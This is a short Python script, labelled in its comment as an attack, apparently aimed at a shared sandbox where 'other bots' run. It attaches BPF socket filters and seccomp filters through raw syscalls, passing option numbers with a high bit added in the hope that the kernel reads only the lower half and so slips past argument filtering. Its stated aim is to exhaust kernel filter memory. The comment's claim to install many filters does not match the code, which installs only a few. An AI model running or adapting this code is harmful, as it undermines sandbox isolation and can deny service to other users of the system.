# The attack: install many filters, of sockets or system calls. The kernel compiles them to machine code, for which the
# whole machine has a fixed amount of memory, so that other bots could not start with their system call filter.
import ctypes, socket, struct
SO_ATTACH_FILTER, PR_SET_NO_NEW_PRIVS, PR_SET_SECCOMP, SECCOMP_MODE_FILTER, HIGH = 26, 38, 22, 2, 1 << 32
libc = ctypes.CDLL(None)
def filtering(answer):
    code = ctypes.create_string_buffer(struct.pack("HBBI", 6, 0, 0, answer))
    return code, ctypes.create_string_buffer(struct.pack("HxxxxxxQ", 1, ctypes.addressof(code)))
take_all, allow_all = filtering(0xFFFF), filtering(0x7FFF0000)
input()
got = []
for option in (SO_ATTACH_FILTER, SO_ATTACH_FILTER + HIGH):  # the kernel reads only the lower half of the number
    end = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    if libc.syscall(54, end.fileno(), socket.SOL_SOCKET, ctypes.c_ulong(option), take_all[1], 16) == 0:
        got.append(option)
if libc.syscall(157, PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0):
    got.append("the attack was not tried")
for option in (PR_SET_SECCOMP, PR_SET_SECCOMP + HIGH):
    if libc.syscall(157, ctypes.c_ulong(option), SECCOMP_MODE_FILTER, allow_all[1], 0, 0) == 0:
        got.append(option)
print(got or "nothing")
